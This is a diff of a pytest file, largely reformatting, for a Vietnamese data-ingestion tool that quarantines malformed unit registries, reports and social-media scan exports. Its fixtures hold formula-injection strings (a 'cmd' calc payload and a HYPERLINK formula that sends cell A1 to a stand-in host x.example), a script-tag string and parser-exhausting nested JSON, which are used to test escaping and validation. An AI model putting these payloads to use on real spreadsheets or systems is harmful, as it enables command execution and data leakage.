@@ -28,8 +28,15 @@ import pytest
 NUL = "Công nhân\x00lo lắng"
 LONG = "Công nhân lo lắng về tiền lương. " * 4500  # ~148 000 characters: over Python's csv field limit
 FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
-ODD_OK = ["\u202eRTL override", "Đoàn viên 👍 phấn khởi", "Cong\u0302 nha\u0302n".replace("Cong\u0302", "Công"),
-          "Tab\tgiữa ô", "Dòng 1\nDòng 2 trong một ô", "Trích dẫn \"kép\" và 'đơn'", "<script>alert(1)</script>"]
+ODD_OK = [
+    "\u202eRTL override",
+    "Đoàn viên 👍 phấn khởi",
+    "Cong\u0302 nha\u0302n".replace("Cong\u0302", "Công"),
+    "Tab\tgiữa ô",
+    "Dòng 1\nDòng 2 trong một ô",
+    "Trích dẫn \"kép\" và 'đơn'",
+    "<script>alert(1)</script>",
+]
 VIETNAMESE = re.compile(r"[àáảãạăằắẳẵặâầấẩẫậèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵđĐ]")
 TRACEBACK = re.compile(r"Traceback|File \"|line \d+, in |Error\(|Exception:|psycopg2\.|\bError:")
 
@@ -156,8 +163,9 @@ def unit_cases() -> list[Case]:
             n_rows = len(base_registry()) + 3
             bad_row = _row_number(fmt, len(base_registry()) + 1)
             field_name = _field_for(fmt, column, code, UNIT_FIELDS)
-            cases.append(Case(f"units-{fmt}-{mid}", "units", f"danh_muc_{mid}.{fmt}", make, n_rows,
-                              [(bad_row, code, field_name)] if code else []))
+            cases.append(
+                Case(f"units-{fmt}-{mid}", "units", f"danh_muc_{mid}.{fmt}", make, n_rows, [(bad_row, code, field_name)] if code else [])
+            )
         # JSON arrays with elements that are not objects: each is a quarantined row
         for mid, junk in (("number", 42), ("string", "LDLD-TD"), ("null", None), ("list", [1, 2])):
             if fmt != "json":
@@ -166,12 +174,21 @@ def unit_cases() -> list[Case]:
             def make(nonce: int, junk=junk) -> bytes:
                 recs = [dict(zip(UNITS_HEADER, r, strict=True)) for r in base_registry()]
                 recs.insert(2, junk)
-                recs.append(dict(zip(UNITS_HEADER, [f"XT-{nonce}-J", f"Đơn vị {nonce}", "huyện", "LDLD-TINH", "2021-01-01", "", ""],
-                                     strict=True)))
+                recs.append(
+                    dict(zip(UNITS_HEADER, [f"XT-{nonce}-J", f"Đơn vị {nonce}", "huyện", "LDLD-TINH", "2021-01-01", "", ""], strict=True))
+                )
                 return json_bytes(recs)
 
-            cases.append(Case(f"units-json-nonobject-{mid}", "units", f"danh_muc_junk_{mid}.json", make, len(base_registry()) + 2,
-                              [(3, "not_an_object", None)]))
+            cases.append(
+                Case(
+                    f"units-json-nonobject-{mid}",
+                    "units",
+                    f"danh_muc_junk_{mid}.json",
+                    make,
+                    len(base_registry()) + 2,
+                    [(3, "not_an_object", None)],
+                )
+            )
     return cases
 
 
@@ -243,9 +260,18 @@ def report_cases() -> list[Case]:
                 rows[1][FORM_HEADER.index(column)] = value
                 return _tabular(fmt, FORM_HEADER, rows)
 
-            cases.append(Case(f"reports-{fmt}-{mid}", "reports", f"bieu_mau_{mid}.{fmt}", make, 3,
-                              [(_row_number(fmt, 1), code, _field_for(fmt, column, code, FORM_FIELDS))] if code else []))
+            cases.append(
+                Case(
+                    f"reports-{fmt}-{mid}",
+                    "reports",
+                    f"bieu_mau_{mid}.{fmt}",
+                    make,
+                    3,
+                    [(_row_number(fmt, 1), code, _field_for(fmt, column, code, FORM_FIELDS))] if code else [],
+                )
+            )
     for mid, junk in (("number", 7), ("string", "báo cáo"), ("null", None)):
+
         def make(nonce: int, junk=junk) -> bytes:
             recs: list = [dict(zip(FORM_HEADER, r, strict=True)) for r in form_rows(nonce)]
             recs.insert(1, junk)
@@ -258,17 +284,21 @@ def report_cases() -> list[Case]:
             recs.insert(1, json.dumps(junk))
             return jsonl_bytes(recs)
 
-        cases.append(Case(f"reports-jsonl-nonobject-{mid}", "reports", f"bieu_mau_junk_{mid}.jsonl", make_l, 4,
-                          [(2, "not_an_object", None)]))
-    for mid, line in (("broken", '{"Mã đơn vị": "HOST-01", oops'), ("deep", "[" * 100_000 + "]" * 100_000),
-                      ("deep_object", '{"a":' * 50_000 + "1" + "}" * 50_000)):
+        cases.append(
+            Case(f"reports-jsonl-nonobject-{mid}", "reports", f"bieu_mau_junk_{mid}.jsonl", make_l, 4, [(2, "not_an_object", None)])
+        )
+    for mid, line in (
+        ("broken", '{"Mã đơn vị": "HOST-01", oops'),
+        ("deep", "[" * 100_000 + "]" * 100_000),
+        ("deep_object", '{"a":' * 50_000 + "1" + "}" * 50_000),
+    ):
+
         def make(nonce: int, line=line) -> bytes:
             recs: list = [dict(zip(FORM_HEADER, r, strict=True)) for r in form_rows(nonce)]
             recs.insert(2, line)
             return jsonl_bytes(recs)
 
-        cases.append(Case(f"reports-jsonl-{mid}", "reports", f"bieu_mau_{mid}.jsonl", make, 4,
-                          [(3, "bad_json", None)]))
+        cases.append(Case(f"reports-jsonl-{mid}", "reports", f"bieu_mau_{mid}.jsonl", make, 4, [(3, "bad_json", None)]))
 
     def surrogate(nonce: int) -> bytes:
         rows = form_rows(nonce)
@@ -306,8 +336,10 @@ def register_cases() -> list[Case]:
                 continue
 
             def make(nonce: int, column=column, value=value, fmt=fmt, mid=mid) -> bytes:
-                rows = [[f"2026-0{m}-18 09:{nonce % 60:02d}", name, f"{nonce}{m}/BC-LĐLĐ", f"bc_{nonce}_{m}.docx"]
-                        for m, (_, name) in zip((4, 5, 6), REPORT_UNITS, strict=False)]
+                rows = [
+                    [f"2026-0{m}-18 09:{nonce % 60:02d}", name, f"{nonce}{m}/BC-LĐLĐ", f"bc_{nonce}_{m}.docx"]
+                    for m, (_, name) in zip((4, 5, 6), REPORT_UNITS, strict=False)
+                ]
                 rows[1][REGISTER_HEADER.index(column)] = value
                 if mid == "no_identity":
                     rows[1][2] = ""  # neither attachment nor document number: cannot be matched
@@ -317,8 +349,16 @@ def register_cases() -> list[Case]:
             # office's record: every row is kept (ingestion/reports/register.py), none quarantined.
             expect = code
             fld = _field_for(fmt, column, code, {"Thời gian nhận": "received_at"}) if code else None
-            cases.append(Case(f"register-{fmt}-{mid}", "reports", f"so_cong_van_den_{mid}.{fmt}", make, 3,
-                              [(_row_number(fmt, 1), expect, fld)] if expect else []))
+            cases.append(
+                Case(
+                    f"register-{fmt}-{mid}",
+                    "reports",
+                    f"so_cong_van_den_{mid}.{fmt}",
+                    make,
+                    3,
+                    [(_row_number(fmt, 1), expect, fld)] if expect else [],
+                )
+            )
     return cases
 
 
@@ -345,9 +385,31 @@ def document_cases() -> list[Case]:
             z.writestr("hello.txt", f"không phải Excel {nonce}")
         return buf.getvalue()
 
-    file_level = frozenset({"unknown_layout", "bad_encoding", "unreadable", "corrupt_xlsx", "empty_file", "no_text", "bad_docx",
-                            "bad_pdf", "corrupt_document", "corrupt_docx", "corrupt_pdf", "unknown_unit", "missing_unit", "missing_month", "unreadable_document",
-                            "ocr_failed", "no_period", "not_a_report", "empty_document", "bad_json", "ambiguous_unit"})
+    file_level = frozenset(
+        {
+            "unknown_layout",
+            "bad_encoding",
+            "unreadable",
+            "corrupt_xlsx",
+            "empty_file",
+            "no_text",
+            "bad_docx",
+            "bad_pdf",
+            "corrupt_document",
+            "corrupt_docx",
+            "corrupt_pdf",
+            "unknown_unit",
+            "missing_unit",
+            "missing_month",
+            "unreadable_document",
+            "ocr_failed",
+            "no_period",
+            "not_a_report",
+            "empty_document",
+            "bad_json",
+            "ambiguous_unit",
+        }
+    )
     return [
         Case("documents-pdf-named-csv", "reports", "bao_cao.csv", pdf_named_csv, 1, codes=file_level),
         Case("documents-nul-text", "reports", "bao_cao_nul.txt", nul_text, 1, codes=file_level),
@@ -397,8 +459,22 @@ def survey_cases() -> list[Case]:
 
 
 # -- scans -----------------------------------------------------------------------------------------
-REPUTA_HEADER = ["Đường dẫn", "Nền tảng", "Thời gian đăng", "Thời gian quét", "Tiêu đề", "Nội dung", "Tài khoản",
-                 "Lượt thích", "Lượt chia sẻ", "Bình luận", "Lượt xem", "Sắc thái", "Chủ đề", "Địa bàn"]
+REPUTA_HEADER = [
+    "Đường dẫn",
+    "Nền tảng",
+    "Thời gian đăng",
+    "Thời gian quét",
+    "Tiêu đề",
+    "Nội dung",
+    "Tài khoản",
+    "Lượt thích",
+    "Lượt chia sẻ",
+    "Bình luận",
+    "Lượt xem",
+    "Sắc thái",
+    "Chủ đề",
+    "Địa bàn",
+]
 REPUTA_MUTATIONS = [
     ("likes_beyond_bigint", "Lượt thích", "99999999999999999999999", "bad_number", "likes"),
     ("views_beyond_bigint", "Lượt xem", "1e30", "bad_number", "views"),
@@ -417,17 +493,36 @@ REPUTA_MUTATIONS = [
 
 def reputa_rows(nonce: int) -> list[list[str]]:
     return [
-        [f"https://www.facebook.com/groups/thu{nonce}/posts/{i}", "Facebook", f"1{i}/10/2026 08:30", f"1{i}/10/2026 09:30", "",
-         f"Công nhân ở Tam Đường phản ánh chậm lương {nonce}-{i}", f"@tk{i}", "12", "3", "4", "100", "Tiêu cực", "", ""]
+        [
+            f"https://www.facebook.com/groups/thu{nonce}/posts/{i}",
+            "Facebook",
+            f"1{i}/10/2026 08:30",
+            f"1{i}/10/2026 09:30",
+            "",
+            f"Công nhân ở Tam Đường phản ánh chậm lương {nonce}-{i}",
+            f"@tk{i}",
+            "12",
+            "3",
+            "4",
+            "100",
+            "Tiêu cực",
+            "",
+            "",
+        ]
         for i in range(1, 5)
     ]
 
 
 def newsmon_record(nonce: int, i: int) -> dict:
-    return {"link": f"https://m.facebook.com/groups/tin{nonce}/posts/{i}", "published": f"2026-10-1{i}T01:30:00Z",
-            "crawled_at": f"2026-10-1{i}T02:30:00Z", "body": f"Người lao động bàn về tiền lương {nonce}-{i}",
-            "source": {"type": "fb", "handle": f"tk{i}"}, "engagement": {"likes": 5, "shares": 1, "comments": 0, "views": 50},
-            "sentiment_score": 30}
+    return {
+        "link": f"https://m.facebook.com/groups/tin{nonce}/posts/{i}",
+        "published": f"2026-10-1{i}T01:30:00Z",
+        "crawled_at": f"2026-10-1{i}T02:30:00Z",
+        "body": f"Người lao động bàn về tiền lương {nonce}-{i}",
+        "source": {"type": "fb", "handle": f"tk{i}"},
+        "engagement": {"likes": 5, "shares": 1, "comments": 0, "views": 50},
+        "sentiment_score": 30,
+    }
 
 
 NEWSMON_MUTATIONS: list[tuple[str, Callable[[dict], object], str | None, str | None]] = [
@@ -450,15 +545,25 @@ NEWSMON_MUTATIONS: list[tuple[str, Callable[[dict], object], str | None, str | N
 def scan_cases() -> list[Case]:
     cases = []
     for mid, column, value, code, fld in REPUTA_MUTATIONS:
+
         def make(nonce: int, column=column, value=value) -> bytes:
             rows = reputa_rows(nonce)
             rows[1][REPUTA_HEADER.index(column)] = value
             return csv_bytes(REPUTA_HEADER, rows)
 
-        cases.append(Case(f"scans-reputa-csv-{mid}", "scans:reputa", f"reputa_{mid}.csv", make, 4,
-                          [(2, code, fld)] if code else [(2, "__any__", fld)] if fld else []))
+        cases.append(
+            Case(
+                f"scans-reputa-csv-{mid}",
+                "scans:reputa",
+                f"reputa_{mid}.csv",
+                make,
+                4,
+                [(2, code, fld)] if code else [(2, "__any__", fld)] if fld else [],
+            )
+        )
     for fmt in ("jsonl", "json"):
         for mid, mutate, code, fld in NEWSMON_MUTATIONS:
+
             def make(nonce: int, mutate=mutate, fmt=fmt) -> bytes:
                 recs: list = [newsmon_record(nonce, i) for i in range(1, 5)]
                 recs[1] = mutate(recs[1])
@@ -466,9 +571,11 @@ def scan_cases() -> list[Case]:
                     return ("\n".join(json.dumps(r, ensure_ascii=True) for r in recs) + "\n").encode()
                 return json.dumps({"errors": [], "items": recs}, ensure_ascii=True).encode()
 
-            cases.append(Case(f"scans-newsmon-{fmt}-{mid}", "scans:newsmon", f"newsmon_{mid}.{fmt}", make, 4,
-                              [(2, code, fld)] if code else []))
+            cases.append(
+                Case(f"scans-newsmon-{fmt}-{mid}", "scans:newsmon", f"newsmon_{mid}.{fmt}", make, 4, [(2, code, fld)] if code else [])
+            )
     for mid, line in (("broken", '{"link": "https://x.example/1", oops'), ("deep", "[" * 100_000 + "]" * 100_000)):
+
         def make(nonce: int, line=line) -> bytes:
             recs = [json.dumps(newsmon_record(nonce, i)) for i in range(1, 5)]
             recs.insert(2, line)
@@ -564,15 +671,19 @@ def test_stale_xlsx_dimension_loses_no_rows(env):
     registry = base_registry() + [[f"DIM-{i:02d}", f"Đơn vị kích thước {i}", "huyện", "LDLD-TINH", "2021-01-01", "", ""] for i in range(12)]
     units = folder / "danh_muc.xlsx"
     units.write_bytes(xlsx_bytes(UNITS_HEADER, registry, stale_dimension=True))
-    rows = [[code, f"2026-{m:02d}", f"2026-{m:02d}-1{m % 10} 08:00", "T11", f"Kích thước {code} {m}"]
-            for code, _ in REPORT_UNITS for m in (1, 2, 3)]
+    rows = [
+        [code, f"2026-{m:02d}", f"2026-{m:02d}-1{m % 10} 08:00", "T11", f"Kích thước {code} {m}"]
+        for code, _ in REPORT_UNITS
+        for m in (1, 2, 3)
+    ]
     form = folder / "bieu_mau.xlsx"
     form.write_bytes(xlsx_bytes(FORM_HEADER, rows, stale_dimension=True))
     header = sample.kobo_header(sample.FormShape())
     answers = list(sample.generate(15, (2026, 9), seed=4242))
     survey = folder / "kobo.xlsx"
-    survey.write_bytes(xlsx_bytes(header, [sample.kobo_row(a, i, sample.FormShape()) for i, a in enumerate(answers, 1)],
-                                  stale_dimension=True))
+    survey.write_bytes(
+        xlsx_bytes(header, [sample.kobo_row(a, i, sample.FormShape()) for i, a in enumerate(answers, 1)], stale_dimension=True)
+    )
     for data in (units.read_bytes(), form.read_bytes(), survey.read_bytes()):
         with zipfile.ZipFile(io.BytesIO(data)) as z:
             assert '<dimension ref="A1:C5"/>' in z.read("xl/worksheets/sheet1.xml").decode()
@@ -597,8 +708,9 @@ def test_identical_bad_files_from_two_senders_are_two_entries(env):
     summary = run_ingest(env["sources"]["reports"], paths, env["conn"], progress=None)
     assert [f.status for f in summary.files] == ["quarantined", "quarantined"]
     with env["conn"].cursor() as cur:
-        cur.execute("select file_path from ops.quarantine where file_hash = %s and resolved_at is null order by 1",
-                    (summary.files[0].file_hash,))
+        cur.execute(
+            "select file_path from ops.quarantine where file_hash = %s and resolved_at is null order by 1", (summary.files[0].file_hash,)
+        )
         assert [r[0] for r in cur.fetchall()] == sorted(str(p) for p in paths)
 
 
@@ -623,7 +735,9 @@ def test_file_named_with_a_leading_dash_is_a_path(env, monkeypatch, capsys):
 
     folder = env["folder"] / "dash"
     folder.mkdir()
-    (folder / "-bieu-mau.csv").write_bytes(csv_bytes(FORM_HEADER, [["HOST-03", "2026-03", "2026-03-15 08:00", "T11", "Tên tệp bắt đầu bằng gạch"]]))
+    (folder / "-bieu-mau.csv").write_bytes(
+        csv_bytes(FORM_HEADER, [["HOST-03", "2026-03", "2026-03-15 08:00", "T11", "Tên tệp bắt đầu bằng gạch"]])
+    )
     monkeypatch.chdir(folder)
     assert main(["ingest", "reports", "-bieu-mau.csv", "--json", "--quiet"]) == 0
     out = json.loads(capsys.readouterr().out)
@@ -642,14 +756,17 @@ def test_formula_strings_are_escaped_on_export(tmp_path):
     assert export_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)" and export_cell(7) == 7
 
 
-@pytest.mark.parametrize(("body", "key"), [
-    ('tool = "x"\n[columns]\nurl = "link"\n[dates]\nformat = 5\n', "format"),
-    ('tool = "x"\ncolumns = "url"\n', "columns"),
-    ('tool = "x"\n[columns]\nurl = 3\n', "url"),
-    ('tool = "x"\n[columns]\nurl = "link"\ndates = "iso"\n', "dates"),
-    ('tool = "x"\n[columns]\nurl = "link"\n[dates]\ntimezone = 7\n', "timezone"),
-    ('tool = 5\n[columns]\nurl = "link"\n', "tool"),
-])
+@pytest.mark.parametrize(
+    ("body", "key"),
+    [
+        ('tool = "x"\n[columns]\nurl = "link"\n[dates]\nformat = 5\n', "format"),
+        ('tool = "x"\ncolumns = "url"\n', "columns"),
+        ('tool = "x"\n[columns]\nurl = 3\n', "url"),
+        ('tool = "x"\n[columns]\nurl = "link"\ndates = "iso"\n', "dates"),
+        ('tool = "x"\n[columns]\nurl = "link"\n[dates]\ntimezone = 7\n', "timezone"),
+        ('tool = 5\n[columns]\nurl = "link"\n', "tool"),
+    ],
+)
 def test_malformed_scan_mapping_is_a_clear_error(tmp_path, body, key):
     from dlxh.core.errors import ConfigError
     from ingestion.scans.mapping import load_mapping
